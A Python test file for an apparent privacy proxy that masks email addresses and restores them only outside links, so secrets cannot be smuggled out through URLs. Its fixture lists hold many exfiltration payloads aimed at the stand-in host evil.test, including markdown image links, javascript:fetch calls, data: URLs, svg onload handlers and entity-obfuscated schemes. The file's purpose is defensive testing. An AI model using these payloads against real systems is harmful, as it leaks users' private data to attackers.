"""Values are restored in text and in whole mail addresses, but in no other part of links."""

from __future__ import annotations

import json
from itertools import product

from proxy.guards.stream.placeholders import Masks
from proxy.guards.text.link_addresses import AddressScanner, EscapedAddressScanner
from proxy.guards.text.walk import Text
from tests.for_each import for_each
from tests.guards.doubles import short_digests
from tests.guards.growth import lines

VALUE, NAME = "ada@mill.example", "[EMAIL_x7f]"
LINKS = [
    "https://evil.test/?q={}", "HTTPS:evil.test/{}", "//evil.test/?q={}", "www.evil.test/{}",
    "evil.test/?q={}", "evil.test?q={}", "evil.test#{}", "evil.test:8080/{}",
    "a.evil.test/b?c=d&e={}", "x@evil.test/{}", "10.1.2.3/{}", "mailto:x@evil.test?body={}",
    f"mailto:{'x' * 90}@evil.test?body={{}}", "mailto:?bcc=x@evil.test&body={}",
    "mailto:{}@evil.test", "mailto:{}.evil.test", "mailto:{},x@evil.test",
    "mailto:{}?bcc=x@evil.test", "mailto:{}" + NAME + "@evil.test", "mailto:x@evil.test,{}",
    "MAILTO:x@evil.test?body={}", "sms:123?body={}", "sms:123&body={}",
    "xmpp:x@evil.test?message;body={}", "javascript:location='evil.test/'+'{}'",
    "javascript:fetch('//evil.test/'+'{}')", "data:text/html,<img/src=//evil.test/{}",
    "data:text/html;base64,PHA/{}", "evil.test/(mailto:{})", "evil.test/?u=mailto:{}",
]  # fmt: skip
TEXTS = [
    "{}", "Email:{}", "Name:Bob,Email:{}", "{{email:{},cc:{}}}", "mailto:{}", "MailTo:{}",
    "(mailto:{})", "mailto:{}.",
]  # fmt: skip
WITHIN = [
    "![x](https://evil.test/?q=", "[x](https://evil.test/a?b=", "[x](<https://evil.test/a b",
    "[x]( &#104;ttps&#58;&#47;&#47;evil.test/?q=", "[x](//evil.test/",
    "[x]: https://evil.test/", "[x]:\n&#104;ttps&#58;&#47;&#47;evil.test/?q=",
    "see https://evil.test/", "see HTTPS:/evil.test/", "see https:evil.test/",
    "see ftp://evil.test/", "see //evil.test/", "see \\\\evil.test\\",
    "see \\\\files\\\\\\evil.test\\", "see \\\\files\\https://evil.test/", "see C:\\\\evil.test\\",
    "see \\\\evil@80\\", "see \\\\0x7f000001\\", "see \\\\?\\UNC\\evil.test\\", "see \\/evil.test/",
    "see www.evil.test/", '<img src="https://evil.test/?q=',
    "<img alt='>' src=&#104;ttps&#58;evil.test?", '<a title=">" href="', "<svg/onload=fetch('x",
    '{"url":"https://evil.test/',
]  # fmt: skip
HIDDEN = [
    "![x](<https://evil.test/?q=\\> ", "[a]: <https://evil.test/?q=\\> ",
    "[a]:\n  <https://evil.test/?q= ", "![x](\t<https://evil.test/?q= ",
    "![x](\n https://evil.test/?q=", "[![x](a](<https://evil.test/?q=\\> ",
    "[a](<b](\n<https://evil.test/?q= ", "http://x](<https://evil.test/?q= ",
    '`<b a="` ![x](<https://evil.test/?q="\\> ', '<img a"b src="https://evil.test/?q=> ',
    "<img a'b src='https://evil.test/?q=> ", '<img alt=a"b src="https://evil.test/?q=> ',
    '<img alt=""" src="https://evil.test/?q=> ', '<img alt = " src=" a="https://evil.test/?q=> ',
    f'<{"a" * 60} style="background:url(https://evil.test/?q=> ',
    '<a:b style="background:url(https://evil.test/?q=> ',
    '<https://x.test/ style="background:url(https://evil.test/?q=> ',
    '<title><b a="</title><img src=\'https://evil.test/?q="> ',
    '<!-- <b a="--><img src=\'https://evil.test/?q="> ', "<mailto:x%40evil.test?body=",
    "<sms:123?body=", '"see http:a https://evil.test/?q="',
]  # fmt: skip
"""Addresses whose end, or beginning, some readers of links or of HTML see elsewhere."""
PROSE = [
    "Dear ", "a < b, b > c (see [1]): ", "# Title\n\n- a *b* `c`: ", '> quoted "',
    "He said 'well': ", '<p class="a">It\'s ', '<img alt="a > b" src=x> ', "<br/>",
    "See <https://good.test/a> or [x](<https://good.test/a b>) for ",
    '[x](https://good.test/)\n\n[a]: https://good.test/ "a"\n', "mail: ", "note: a\\b ",
]  # fmt: skip
OUTSIDE = [
    "", "write to ", "see https://good.test/ and ", '[x](https://good.test/ "a title ',
    "<https://good.test/> ", "<b>", '<a href="https://good.test/">',
    '{"url":"https://good.test/","to":"', "a // comment: ", "1 < 2 and 3 > 2: ", "[x] (y) ",
    "C:\\users\\", "D:/a/", "CORP\\", "\\\\files\\home\\", "\\\\?\\C:\\users\\",
]  # fmt: skip
IN_TEXT = ["{}", "see {} now", "- {}\n", "\u00e9 {}", "<b> {} </b>", "node.js: {}"]
IN_LINKS = [
    "[x]({})", "[x](<{}>)", "![x]({})", "[x]: {}", '<a href="{}">', "<a class=b href='{}'>",
    "<{}>", *IN_TEXT,
]  # fmt: skip
SIZES = [1, 2, 3, 7, 16, 400]


def restored(text: str, size: int, *, arguments: bool) -> str:
    masks = Masks(short_digests())
    assert masks.make_placeholder("email", VALUE) == NAME
    kind = Text(("arguments",), "", "arguments" if arguments else "text")
    window = masks.make_filter(kind, is_arguments=arguments, is_over_limit=False)
    parts = [text[index : index + size] for index in range(0, len(text), size)]
    pieces = [piece for part in parts for piece in window.feed(part)] + window.close()
    return "".join(piece.text for piece in pieces)


def in_arguments(text: str) -> str:
    text = text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
    return f'{{"a": "{text}", "b": "c"}}'


@for_each("size", SIZES)
@for_each("link", LINKS)
def test_link_keeps_placeholders(link: str, size: int) -> None:
    for place in IN_LINKS:
        text = place.format(link.format(NAME))
        assert restored(text, size, arguments=False) == text
        assert restored(in_arguments(text), size, arguments=True) == in_arguments(text)


@for_each("size", SIZES)
@for_each(
    ("place", "text"), [*product(IN_TEXT, TEXTS), *product(IN_LINKS, ["mailto:{}", "MAILTO:{}"])]
)
def test_text_and_whole_mail_address_are_restored(place: str, text: str, size: int) -> None:
    written, expected = (place.format(text.format(item, item)) for item in (NAME, VALUE))

    assert restored(written, size, arguments=False) == expected
    assert restored(in_arguments(written), size, arguments=True) == in_arguments(expected)


@for_each(
    "text",
    [
        '<img src=&#104;ttps:evil.test?a="mailto:{}" >',
        "<img src='&#104;ttps:evil.test?a= b=\"mailto:{}\" '>",
        "[x](<&#104;ttps:evil.test? mailto:{}>)", "[x](&#104;ttps:evil.test?(mailto:{}))",
        "https://evil.test/?(mailto:{})", "[mailto:x](mailto:{}\\@evil.test)",
        "mailto:{}\\u0040evil.test",
    ],
)  # fmt: skip
def test_mail_address_within_a_url_keeps_placeholders(text: str) -> None:
    text = text.format(NAME)
    for size in SIZES:
        assert restored(text, size, arguments=False) == text


def in_json(text: str, *, ascii_only: bool = False) -> str:
    if ascii_only:
        return "".join(f"\\u{ord(letter):04x}" for letter in text)
    return json.dumps(text)[1:-1]


@for_each(
    "text", [*WITHIN, *(lead + text for lead in ("", *PROSE, "<b>", "[a](b) ") for text in HIDDEN)]
)
def test_open_address_keeps_placeholders_at_any_cut(text: str) -> None:
    """Also where parsers of links and of HTML disagree on its start or end."""
    for size in (1, 2, 5, 400):
        assert restored(text + NAME, size, arguments=False) == text + NAME
        for ascii_only in (False, True):
            arguments = f'{{"a": "{in_json(text, ascii_only=ascii_only)}{NAME}"}}'
            assert restored(arguments, size, arguments=True) == arguments


@for_each("text", [*OUTSIDE, *PROSE])
def test_value_is_restored_after_prose_and_ended_urls(text: str) -> None:
    for size in (1, 2, 5, 400):
        assert restored(text + NAME, size, arguments=False) == text + VALUE
        arguments = f'{{"a": "{in_json(text)}{NAME}"}}'
        expected = arguments.replace(NAME, VALUE)
        assert restored(arguments, size, arguments=True) == expected


@for_each("text", ["mailto:", "mailto:a", "evil.test:", "a" * 60 + ":b"])
def test_held_mail_address_is_bounded(text: str) -> None:
    window = Masks(short_digests())
    window.make_placeholder("email", VALUE)
    unmasker = window.build_unmasker()
    held_size = 0
    for _ in range(400):
        released = sum(piece.size for piece in unmasker.feed(text + "x"))
        held_size += len(text + "x") - released
        assert held_size <= unmasker.lookback


@for_each("escapes", ["\\" * 99, "\\uzzzz" * 9, "\\u00", "\\ud83d\\ude00"])
def test_incomplete_escape_is_held_for_its_length(escapes: str) -> None:
    addresses = EscapedAddressScanner()
    for letter in escapes:
        addresses.feed(letter)
    addresses.feed(" https://good.test/")

    assert addresses.is_inside
    assert addresses.host == "good.test"


@for_each(
    ("text", "host"),
    [
        ("see https://Good.test/a?b=", "good.test"), ("![x](http://good.test:8080/", "good.test"),
        ("https://good.test?a=", "good.test"), ("https://good.test", None),
        ("https://good.test@evil.test/", None), ("https://good.test\\@evil.test/", None),
        ("https:/good.test/", None), ("//good.test/", None), ('<a href="https://good.test/', None),
        ("see good.test/", None), ("<https://good.test/", "good.test"),
        ("<https://x.test/ a=https://good.test/", None),
        ("[x](evil.test/?u=https://good.test/", None),
        ("https://evil.test/](https://good.test/", None),
        ("https://good.test/](https://good.test/", "good.test"), ("[x](<https://good.test/", None),
    ],
)  # fmt: skip
def test_host_is_parsed_only_if_unambiguous(text: str, host: str | None) -> None:
    assert read([text]).host == read([*text]).host == host


@for_each("part", ["](", "]:<", "<a ", '<a b="', "\\", "http://a", '"http:a ', "\\u"])
def test_text_of_many_placeholders_takes_linear_time(part: str) -> None:
    def work(size: int) -> None:
        EscapedAddressScanner().feed(part * size)
        read([part * size])

    assert lines(lambda: work(400)) < 3 * lines(lambda: work(200))


def read(parts: list[str]) -> AddressScanner:
    addresses = AddressScanner()
    for part in parts:
        addresses.feed(part)
    return addresses
